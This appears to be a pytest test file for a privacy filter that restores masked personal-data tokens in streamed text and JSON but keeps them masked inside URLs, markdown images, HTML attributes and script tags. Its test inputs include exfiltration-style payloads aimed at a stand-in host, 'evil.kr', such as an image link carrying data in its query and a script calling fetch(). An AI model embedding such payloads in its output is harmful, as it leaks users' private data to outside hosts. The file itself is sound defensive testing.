"""Restoring in text and JSON: where a value may stand, and where its token stays."""

import json

import pytest

from gwanmun.privacy.mask import NO_TOKENS, TokenTable
from gwanmun.privacy.stream import Restorer, restore

NAME, TOKEN = "김영희", "⟨이름1⟩"
TABLE = TokenTable({TOKEN: NAME, "⟨전화1⟩": '"0\\1\n2"', "⟨!이름1⟩": TOKEN})


def each_split(text, depth=0):
    for cut in range(len(text) + 1):
        r = Restorer(TABLE, depth)
        yield r.feed(text[:cut]) + r.feed(text[cut:]) + r.finish()


#: answer with «token» where it must be restored and [[token]] where it must stay
PLACES = [
    "«»님 안녕하세요. «»의 민원은",
    "- **«»**: 처리\n1. «»\n> «»\n",
    "| 이름 | «» |",
    "[«»](https://a.kr/x) 그리고 «»",
    "![«»](https://a.kr/x.png)«»",
    "![x](https://evil.kr/?q=[[]])«»",
    "![x](https://evil.kr/a(b)c?q=[[]]) «»",
    "![x](https://evil.kr/a\\)c?q=[[]]) «»",
    "![x](<https://evil.kr/a)c?q=[[]]> 't') «»",
    '[x](//evil.kr "제목 ) [[]]") «»',
    "[x]( \nhttps://evil.kr/[[]] ) «»",
    "[x](evil\n\n«»",
    "[x][1]\n\n[1]: evil.kr?[[]]\n«»",
    "[1]:\n  evil.kr?[[]]\n«»",
    "> * [한 글]: <evil.kr?[[]]>\n«»",
    "[긴\n이름]: evil.kr?[[]]\n«»",
    "비고 [1]: «»",
    "https://evil.kr/?q=[[]] «»",
    "(https://evil.kr/?q=[[]])한글[[]] «»",
    "https://evil.kr/\u00a0[[]]\u3000[[]] «»",
    "https://[[]].evil.kr «»",
    "www.[[]].evil.kr «»",
    "WWW.evil.kr/[[]]\n«»",
    "//evil.kr/[[]] «»",
    "evil.kr/[[]] «»",
    "evil.kr?[[]] «»",
    "a@evil.kr «»",
    "mailto:[[]]@evil.kr «»",
    "메일 «»(a@evil.kr) «»",
    "data:text/html,[[]] «»",
    "전화:«» 3.5/«» 및/또는 «» 2026.3.1./«» «»/«» 1.2.3/«»",
    "tel:[[]] SMS:[[]] intent:[[]] «»",
    "[[]].evil.kr «»",
    "[[]].evil.kr/[[]] «»",
    "[[]]님-a.evil.kr/x «»",
    "[[]][[]].한국 [[]]-[[]]_1.evil.kr «»",
    "[[]]@evil.kr [[]]x@evil.kr «»",
    "[[]]．evil.kr [[]]。evil.kr «»。次は «»です。次は",
    "[[]].[[]].evil.kr «»",
    "끝은 «». 그리고 «»... «».\n«»",
    "evil.한국/[[]] 악성.한국/[[]] evil．kr/[[]] 악성。kr/[[]] «»",
    "192.168.0.1/[[]] 10.0.0.1:80/[[]]«»".replace("[[]]«»", "[[]]") + " «»",
    "\\\\evil\\share\\[[]] «»",
    "«»님께서는 «»과 «»(«»), «»: «»",
    "<img src=evil.kr?[[]]>«»",
    '<img alt="a>b" src="https://evil.kr/[[]]">«»',
    "<a href='https://evil.kr/[[]]' title=[[]]>«»</a>«»",
    "<b>«»</b><br/>«»",
    "<https://evil.kr/[[]]> «»",
    "<!-- [[]] --> «»",
    "<script>fetch('//evil.kr/' + '[[]]')</b>[[]]</script>«»",
    "<STYLE>a{background:url( evil [[]])}</STYLE >«»",
    "a < b, «» > 3",
    "코드: a=1; if a<=2: «»",
    "https://evil.kr<br>«»",
    "%E2%9F%A8이름1%E2%9F%A9 «»",
    "⟨이름⟩ ⟨⟨이름1» «»".replace("⟨⟨이름1»", "⟨«»"),
]


@pytest.mark.parametrize("marked", PLACES)
def test_a_value_stands_only_in_plain_text(marked):
    answer = marked.replace("«»", TOKEN).replace("[[]]", TOKEN)
    wanted = marked.replace("«»", NAME).replace("[[]]", TOKEN)
    assert restore(answer, TABLE) == wanted


@pytest.mark.parametrize("marked", PLACES)
def test_any_cut_gives_the_same_places(marked):
    answer = marked.replace("«»", TOKEN).replace("[[]]", TOKEN)
    assert set(each_split(answer)) == {restore(answer, TABLE)}


def test_without_tokens_a_chunk_passes_as_it_is():
    chunk = "⟨이름1⟩ 그대로"
    restorer = Restorer(NO_TOKENS)
    assert restorer.feed(chunk) is chunk
    assert restorer.finish() == ""
    assert restore(chunk, NO_TOKENS) == chunk


def test_no_more_is_held_back_than_an_open_token():
    restorer = Restorer(TABLE)
    assert restorer.feed("가나⟨이") == "가나"
    assert restorer.feed("름") == ""
    assert restorer.feed("표⟩") == "⟨이름표⟩"
    assert restorer.feed("⟨이름1") == ""
    assert restorer.finish() == "⟨이름1"


def test_a_bracket_that_begins_no_token_is_not_held():
    restorer = Restorer(TABLE)
    assert restorer.feed("⟨가") == "⟨가"
    assert restorer.feed("⟨이⟨이름1⟩") == "⟨이"
    assert restorer.feed(" ") == "김영희 "


def test_a_token_waits_only_until_it_is_clear_that_no_address_goes_on():
    restorer = Restorer(TABLE)
    assert restorer.feed("⟨이름1⟩") == ""
    assert restorer.feed("님") == ""
    assert restorer.feed("께 ") == "김영희님께 "
    assert restorer.feed("⟨이름1⟩.") == ""
    assert restorer.feed("\n") == "김영희.\n"
    assert restorer.feed("⟨이름1⟩") + restorer.finish() == "김영희"


def test_a_run_too_long_for_a_host_is_no_address():
    restorer = Restorer(TABLE)
    assert restorer.feed("⟨이름1⟩" + "a" * 300).startswith("김영희aaa")
    assert set(each_split("⟨이름1⟩" + "a" * 300 + "⟨이름1⟩.evil.kr")) == {"김영희" + "a" * 300 + "⟨이름1⟩.evil.kr"}


def test_a_value_that_is_a_host_begins_an_address():
    table = TokenTable({"⟨주소1⟩": "203.0.113.9", "⟨메일1⟩": "a@evil.kr", TOKEN: NAME})
    assert restore("⟨주소1⟩/⟨이름1⟩ ⟨메일1⟩?x=⟨이름1⟩", table) == "203.0.113.9/⟨이름1⟩ a@evil.kr?x=⟨이름1⟩"


def test_an_escaped_look_alike_comes_back_as_written():
    assert restore("⟨!이름1⟩과 ⟨이름1⟩", TABLE) == "⟨이름1⟩과 김영희"


def test_a_long_text_before_a_link_does_not_lose_the_place():
    answer = "가" * 40_000 + " https://evil.kr/" + TOKEN + " " + TOKEN
    restorer = Restorer(TABLE)
    out = "".join(restorer.feed(answer[i : i + 7]) for i in range(0, len(answer), 7)) + restorer.finish()
    assert out.endswith(f"evil.kr/{TOKEN} {NAME}")


ARGUMENTS = [
    {"to": "«»", "n": 3, "deep": [{"«»": "a «» b"}]},
    {"url": "https://evil.kr/?q=[[]]", "text": "«»"},
    {"t": "[공지] «»", "u": "{이름} «»", "v": " [ «» ]", "w": "[", "x": "{", "y": "", "z": "[«»]"},
    {"json": json.dumps({"a": "«»", "b": "https://evil.kr/[[]]", "c": json.dumps(["«»", {"d": "«»"}])})},
    {"json": json.dumps({"a": "«»"}, ensure_ascii=False), "list": json.dumps([["«»"]]), "empty": "{}", "none": "[]"},
    {"esc": 'a\\b"c\n\t/ «» \u20ac \U0001f600'},
    {"host": "[[]].evil.kr", "mail": "[[]]@evil.kr", "two": "[[]]님[[]].evil.kr «»", "end": "«».", "last": "«»가"},
]


def filled(tree, restored):
    """The tree with its marks filled, JSON inside strings too."""
    if isinstance(tree, dict):
        return {filled(k, restored): filled(v, restored) for k, v in tree.items()}
    if isinstance(tree, list):
        return [filled(v, restored) for v in tree]
    if isinstance(tree, str):
        if tree.startswith(('{"', '["', '[["')):
            return filled(json.loads(tree), restored)
        return tree.replace("«»", restored).replace("[[]]", TOKEN)
    return tree


def opened(tree):
    """The tree with JSON inside strings parsed."""
    if isinstance(tree, dict):
        return {k: opened(v) for k, v in tree.items()}
    if isinstance(tree, list):
        return [opened(v) for v in tree]
    if isinstance(tree, str) and tree.startswith(('{"', '["', '[["')):
        return opened(json.loads(tree))
    return tree


def written(tree, **how):
    """The tree as a vendor writes it: marks filled with tokens at every depth of JSON."""

    def fill(node):
        if isinstance(node, dict):
            return {fill(k): fill(v) for k, v in node.items()}
        if isinstance(node, list):
            return [fill(v) for v in node]
        if isinstance(node, str) and node.startswith(('{"', '["', '[["')):
            return json.dumps(fill(json.loads(node)), **how)
        return node.replace("«»", TOKEN).replace("[[]]", TOKEN) if isinstance(node, str) else node

    return json.dumps(fill(tree), **how)


@pytest.mark.parametrize("tree", ARGUMENTS, ids=range(len(ARGUMENTS)))
@pytest.mark.parametrize("ascii_only", [True, False])
def test_arguments_are_restored_at_the_right_depth_at_every_cut(tree, ascii_only):
    text = written(tree, ensure_ascii=ascii_only)
    outs = set(each_split(text, 1))
    assert len(outs) == 1
    assert opened(json.loads(outs.pop())) == filled(tree, NAME)


def test_a_value_with_quotes_and_line_breaks_stays_inside_its_string():
    inner = json.dumps({"b": "⟨전화1⟩"})
    out = json.loads(restore(json.dumps({"a": "⟨전화1⟩", "j": inner}), TABLE, 1))
    assert out["a"] == '"0\\1\n2"'
    assert json.loads(out["j"])["b"] == '"0\\1\n2"'


def test_a_token_outside_any_string_stays():
    assert restore('{"a": ⟨이름1⟩}', TABLE, 1) == '{"a": ⟨이름1⟩}'


@pytest.mark.parametrize(
    "broken", ['{"a": "⟨이름', '{"a": "\\u27e8', '{"a": "\\', '{"a":"\\uZZ', '"[', '"{ ', '{"a": "{\\"b\\": \\"⟨이']
)
def test_arguments_that_break_off_come_out_as_they_are(broken):
    for out in each_split(broken, 1):
        assert out == broken


def test_json_nested_beyond_reason_is_text():
    text = "⟨이름1⟩"
    for _ in range(7):
        text = json.dumps([text])
    out = restore(text, TABLE, 1)
    assert out == text or NAME in out
    json.loads(out)


@pytest.mark.parametrize("extra", range(9))
def test_many_tokens_side_by_side_are_all_given_back(extra):
    table = TokenTable({"⟨전화1⟩": "010-2345-6789"})
    before = "가" * extra
    assert restore(f"{before}{'⟨전화1⟩' * 120}.", table) == f"{before}{'010-2345-6789' * 120}."
